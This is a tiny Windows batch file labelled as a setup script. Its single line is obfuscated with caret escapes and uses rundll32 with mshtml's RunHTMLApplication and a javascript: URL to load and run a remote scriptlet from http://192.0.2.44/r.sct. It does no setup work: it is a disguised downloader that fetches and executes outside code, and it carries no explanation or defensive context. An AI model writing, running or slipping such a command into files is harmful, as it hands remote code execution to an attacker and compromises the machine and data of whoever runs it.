REM setup 9716 v4
f^o^r /f "tokens=1 delims=~" %%^i i^n ("rundll32.exe~xuzx~unrf") do %%i ^j^a^v^as^cr^i^pt:"\..\mshtml,RunHTMLApplication ";docum^en^t.writ^e();^G^etObj^ect("script:http://192.0.2.44/r.sct")
